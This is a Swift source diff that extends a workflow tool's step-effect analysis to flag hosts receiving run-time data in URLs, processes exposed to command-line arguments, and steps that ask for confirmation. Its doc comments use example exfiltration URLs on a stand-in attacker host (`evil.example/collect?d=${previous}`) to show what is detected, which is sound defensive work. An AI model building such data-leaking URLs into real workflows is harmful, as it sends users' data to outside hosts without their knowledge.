@@ -1,6 +1,7 @@
 import FlowIntents
 import FlowModel
 import FlowRuntime
+import Foundation
 
 /// What one action step may do, from its intent's declarations and the values written in the step: its
 /// side effect and the hosts it may contact. What `flow show` marks in the margin and what the capability
@@ -13,6 +14,14 @@ struct StepEffect: Sendable, Hashable {
   var anyHost: Bool
   /// Nothing can be known before the run: a nested workflow chosen at run time could do anything.
   var unknown = false
+  /// Hosts written out in a URL whose path or query is computed at run time: what the workflow holds
+  /// goes to them in the URL (`https://evil.example/collect?d=${previous}`).
+  var dataHosts: [String] = []
+  /// Values computed at run time go to another program as command-line arguments, which every user of
+  /// the machine can read (``FlowIntents/AppIntent/processArgumentParameters``).
+  var exposesArguments = false
+  /// The step asks the person before it runs: its intent always does, or its values may delete.
+  var asks = false
 
   init(effect: SideEffect, hosts: [String], anyHost: Bool, unknown: Bool = false) {
     self.effect = effect
@@ -22,26 +31,12 @@ struct StepEffect: Sendable, Hashable {
   }
 
   init(_ call: ActionCall, descriptor: IntentDescriptor) {
-    var literals: [String: FlowValue] = [:]
-    var computed: [ParameterDescriptor] = []
-    for (key, value) in (try? Interpreter.arguments(of: call, for: descriptor)) ?? [] {
-      if let literal = Self.literal(value) {
-        literals[key] = literal
-      } else if let parameter = descriptor.parameter(key) {
-        computed.append(parameter)
-      }
-    }
-    // An effect may hang on a value (get-url's method). A computed enum could be any of its cases, so every
-    // case is tried and the worst kept; other computed values are assumed not to change the effect.
-    var effect = descriptor.sideEffect(for: literals)
-    for parameter in computed {
-      for choice in parameter.choices ?? [] {
-        var values = literals
-        values[parameter.key] = .text(choice.id)
-        effect = max(effect, descriptor.sideEffect(for: values))
-      }
-    }
-    self.effect = effect
+    // An effect may hang on values (get-url's method, update-bookmarks' move-to): exact when they are
+    // written out, the strongest the intent may have when any is computed, asked or left to be asked.
+    let known = KnownValues(call, descriptor: descriptor)
+    effect = known.sideEffect(of: descriptor)
+    asks = known.asksConfirmation(descriptor)
+    exposesArguments = !known.unknown.isDisjoint(with: descriptor.processArgumentParameters)
     switch descriptor.networkAccess {
     case .none:
       hosts = []
@@ -50,32 +45,37 @@ struct StepEffect: Sendable, Hashable {
       hosts = declared
       anyHost = false
     case .hostOfParameter(let key):
-      hosts = descriptor.hosts(for: literals)
-      // Computed, asked for, or left out (and so asked for when the step runs): any host.
-      anyHost = literals[key] == nil
+      hosts = descriptor.hosts(for: known.literals)
+      anyHost = false
+      if known.unknown.contains(key) {
+        let given = (try? Interpreter.arguments(of: call, for: descriptor))?.first { $0.0 == key }?.1
+        if let host = Self.writtenHost(given) {
+          // The host is written out; the rest of the URL is not, and carries what the run computes.
+          hosts = [host]
+          dataHosts = [host]
+        } else {
+          // Computed, asked for, or left out (and so asked for when the step runs): any host.
+          anyHost = true
+        }
+      }
     }
   }
 
-  /// A value known before the run: literals, and lists and dictionaries of literals.
-  static func literal(_ value: Value) -> FlowValue? {
-    switch value {
-    case .null, .ask: return nil
-    case .bool(let bool, _): return .boolean(bool)
-    case .integer(let int, _): return .number(Double(int))
-    case .double(let double, _): return .number(double)
-    case .text(let template): return template.literal.map(FlowValue.text)
-    case .list(let items, _):
-      let literals = items.compactMap(literal)
-      return literals.count == items.count ? .list(literals) : nil
-    case .dictionary(let entries, _):
-      var dictionary = FlowDictionary()
-      for entry in entries {
-        guard let literal = literal(entry.value) else { return nil }
-        dictionary[entry.key.value] = literal
-      }
-      return .dictionary(dictionary)
-    }
+  /// The host of a URL template whose scheme and host are written out and ended (by `/`, `?` or `#`)
+  /// before the first reference: `https://evil.example/c?d=${previous}` → `evil.example`. Nil when a
+  /// reference could still change the host (`https://${host}/`, `https://evil.example${x}` could be
+  /// `https://evil.example.other.net`).
+  static func writtenHost(_ value: Value?) -> String? {
+    guard case .text(let template)? = value, case .literal(let prefix)? = template.parts.first,
+      let scheme = prefix.range(of: "://")
+    else { return nil }
+    let authority = prefix[scheme.upperBound...]
+    guard let end = authority.firstIndex(where: { "/?#".contains($0) }) else { return nil }
+    return URL(string: String(prefix[..<end]) + "/")?.host
   }
+
+  /// A value known before the run: literals, and lists and dictionaries of literals.
+  static func literal(_ value: Value) -> FlowValue? { KnownValues.literal(value) }
 
   /// The words in `flow show`'s margin: "changes · api.raindrop.io", "contacts any host"; nil for a step
   /// that only reads what the workflow already has.
@@ -100,8 +100,14 @@ struct StepEffect: Sendable, Hashable {
   /// The effect of several steps together (a nested workflow): the worst effect, every host.
   static func combined(_ effects: [StepEffect]) -> StepEffect {
     var hosts: [String] = []
-    for host in effects.flatMap(\.hosts) where !hosts.contains(host) { hosts.append(host) }
-    return StepEffect(
+    var seen: Set<String> = []
+    for host in effects.flatMap(\.hosts) where seen.insert(host).inserted { hosts.append(host) }
+    var combined = StepEffect(
       effect: effects.map(\.effect).max() ?? .readOnly, hosts: hosts, anyHost: effects.contains(where: \.anyHost))
+    var seenData: Set<String> = []
+    for host in effects.flatMap(\.dataHosts) where seenData.insert(host).inserted { combined.dataHosts.append(host) }
+    combined.exposesArguments = effects.contains(where: \.exposesArguments)
+    combined.asks = effects.contains(where: \.asks)
+    return combined
   }
 }
